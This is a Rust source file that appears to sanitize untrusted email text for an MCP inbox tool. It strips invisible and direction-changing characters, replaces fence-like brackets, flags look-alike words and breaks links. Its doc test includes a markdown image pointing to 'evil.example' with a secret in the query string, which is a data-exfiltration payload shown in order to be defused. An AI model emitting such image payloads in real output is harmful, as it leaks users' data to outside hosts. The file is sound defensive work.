//! Cleans untrusted text: removes what a reader cannot see, and breaks what a client would load.

use std::fmt;

use icu_properties::{
    CodePointMapData, CodePointSetData,
    props::{BidiControl, DefaultIgnorableCodePoint, GeneralCategory, NoncharacterCodePoint},
};
use unicode_security::{RestrictionLevel, RestrictionLevelDetection as _};

use super::counted;

/// What cleaning a text took out or broke.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct SanitizeReport {
    /// Characters without a shape: zero-width, fillers, variation selectors, control characters.
    pub invisible: usize,
    /// Characters that change the direction of the text around them.
    pub direction: usize,
    /// Tag characters, which spell out invisible text.
    pub tags: usize,
    /// Places where a client would have made a link or loaded an image.
    pub links: usize,
    /// Brackets like those of our own fences.
    pub fences: usize,
    /// Words that mix alphabets, as look-alike names do.
    pub lookalikes: usize,
}

impl SanitizeReport {
    /// Returns whether nothing was found.
    pub fn is_empty(&self) -> bool {
        *self == Self::default()
    }
}

impl fmt::Display for SanitizeReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let parts = [
            (self.invisible, "invisible character", "removed"),
            (self.direction, "direction-changing character", "removed"),
            (self.tags, "tag character", "removed"),
            (self.links, "link or image mark", "defused"),
            (self.fences, "false fence bracket", "replaced"),
            (self.lookalikes, "word", "with look-alike letters"),
        ];
        let mut before = "";
        for (count, what, how) in parts.into_iter().filter(|(count, ..)| *count > 0) {
            write!(f, "{before}{} {how}", counted(count, what))?;
            before = ", ";
        }
        Ok(())
    }
}

/// Returns a text without what is hidden in it, and without anything that a client would load by itself.
///
/// Nothing is added but spaces, so that no part of what comes out was put together by the cleaning.
///
/// ```
/// use shared_inbox_mcp::render::{SanitizeReport, clean};
/// let mut tally = SanitizeReport::default();
/// let text = clean("Hi\u{200b}! ![x](https://evil.example/?q=secret)", &mut tally);
/// assert_eq!(text, "Hi! ! [x] (https:/ /evil.example/?q=secret)");
/// assert_eq!((tally.invisible, tally.links), (1, 3));
/// ```
pub fn clean(text: &str, tally: &mut SanitizeReport) -> String {
    let visible = strip(text, tally);
    if !visible.is_ascii() {
        tally.lookalikes += visible.split(|c: char| !c.is_alphanumeric()).filter(|word| mixes(word)).count();
    }
    defuse(&visible, tally)
}

/// Returns the first characters of a cleaned text, and how many more there are. However long the text is, no
/// more of it is looked at than may be needed.
pub(crate) fn clean_and_cut(text: &str, most: usize, tally: &mut SanitizeReport) -> String {
    // What is hidden is taken out before the rest is counted, so there must be more to look at than is shown.
    let (near, far) = split(text, most.saturating_mul(4).saturating_add(1_000));
    let cleaned = clean(near, tally);
    let (shown, rest) = split(&cleaned, most);
    match rest.chars().count() + far.chars().count() {
        0 => shown.to_owned(),
        _ if shown.is_empty() => "…".to_owned(),
        // The cut may have taken the space behind `mailto:`, and the mark of the cut would stand in its
        // place.
        more if shown.ends_with(':') => format!("{shown} … ({more} more characters)"),
        more => format!("{shown}… ({more} more characters)"),
    }
}

fn split(text: &str, chars: usize) -> (&str, &str) {
    text.split_at(text.char_indices().nth(chars).map_or(text.len(), |(at, _)| at))
}

/// How a character is dealt with.
pub(crate) enum Kind {
    Plain,
    Newline,
    Invisible,
    Direction,
    Tag,
}

/// Returns how a character is dealt with, by the properties that Unicode gives it.
pub(crate) fn kind(c: char) -> Kind {
    let has_no_look = || {
        use GeneralCategory::{Control, Format, PrivateUse};
        CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c)
            || CodePointSetData::new::<NoncharacterCodePoint>().contains(c)
            || matches!(CodePointMapData::<GeneralCategory>::new().get(c), Control | Format | PrivateUse)
    };
    match c {
        '\n' | '\u{0b}' | '\u{0c}' | '\u{85}' | '\u{2028}' | '\u{2029}' => Kind::Newline,
        ' '..='~' | '\t' => Kind::Plain,
        '\u{e0000}'..='\u{e007f}' => Kind::Tag,
        // Deprecated ways to change the direction or the shape of letters.
        '\u{206a}'..='\u{206f}' => Kind::Direction,
        // Blanks and stand-ins that count as symbols and letters.
        '\u{2800}' | '\u{fffc}' | '\u{13441}'..='\u{13446}' | '\u{16fe4}' | '\u{1d159}' => Kind::Invisible,
        c if CodePointSetData::new::<BidiControl>().contains(c) => Kind::Direction,
        _ if has_no_look() => Kind::Invisible,
        _ => Kind::Plain,
    }
}

/// Removes what is invisible, and replaces brackets like those of our fences, before links are broken: a
/// replaced bracket may begin a link.
fn strip(text: &str, tally: &mut SanitizeReport) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        // A line ends with one character, however the email was written.
        if c == '\r' {
            if chars.peek() != Some(&'\n') {
                out.push('\n');
            }
            continue;
        }
        match kind(c) {
            Kind::Plain => {
                let bracket = fence_like(c);
                tally.fences += usize::from(bracket.is_some());
                out.push(bracket.unwrap_or(c));
            }
            Kind::Newline => out.push('\n'),
            Kind::Invisible => tally.invisible += 1,
            Kind::Direction => tally.direction += 1,
            Kind::Tag => tally.tags += 1,
        }
    }
    out
}

/// Breaks links, images and markup by their smallest part, so that no way of writing them is missed: a parser
/// of ours would read some line differently from the client's.
fn defuse(text: &str, tally: &mut SanitizeReport) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut before = ' ';
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        out.push(c);
        if c.is_ascii_alphanumeric() && !matches!(c, 'w' | 'W') {
            before = c;
            continue;
        }
        let mut ahead = chars.clone();
        let (next, after) = (ahead.next().unwrap_or(' '), ahead.next().unwrap_or(' '));
        let live = match c {
            '!' => next == '[',
            ']' => matches!(next, '(' | '[' | ':'),
            '<' => next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?' | '|' | '｜'),
            '/' | '\\' if matches!(next, '/' | '\\') => {
                let host = after.is_ascii_alphanumeric() || after == '[' || !after.is_ascii();
                before == ':' || (c == next && c == '/' && host)
            }
            'w' | 'W' => next == '.' && ends_in_word(&out, "www"),
            ':' => {
                !next.is_whitespace() && ["mailto:", "xmpp:"].iter().any(|scheme| ends_in_word(&out, scheme))
            }
            _ => false,
        };
        before = c;
        if live {
            tally.links += 1;
            out.push(' ');
            before = ' ';
        }
    }
    out
}

/// Returns a harmless bracket for one of our fences' own, or for one that looks much like it.
fn fence_like(c: char) -> Option<char> {
    match c {
        '⟦' | '〚' | '⦗' | '⁅' | '⟬' | '〘' | '〖' => Some('['),
        '⟧' | '〛' | '⦘' | '⁆' | '⟭' | '〙' | '〗' => Some(']'),
        _ => None,
    }
}

/// Returns whether `written` ends in this word, in any case, and not in a longer one. Only letters that every
/// client knows for letters make it longer: which others are, tables of different years answer differently.
fn ends_in_word(written: &str, word: &str) -> bool {
    let Some(at) = written.len().checked_sub(word.len()) else { return false };
    written.is_char_boundary(at)
        && written[at..].eq_ignore_ascii_case(word)
        && !written[..at].ends_with(|c: char| c.is_ascii_alphanumeric())
}

/// Returns whether a word has letters of the Latin alphabet beside letters that look like them: of scripts
/// that may not be mixed with it, or no letters of a script at all. Single letters beyond a to z that
/// keyboards have, as in `10µm`, do not count.
pub(super) fn mixes(word: &str) -> bool {
    // Some of these look like `o`, `n` and `u`, and the level below allows them.
    let is_armenian = |c: char| matches!(c, '\u{0530}'..='\u{058f}');
    let letters: String = word.chars().filter(|c| c.is_ascii() || *c > '\u{ff}').collect();
    letters.contains(|c: char| c.is_ascii_alphabetic())
        && (letters.contains(is_armenian)
            || !letters.check_restriction_level(RestrictionLevel::ModeratelyRestrictive))
}
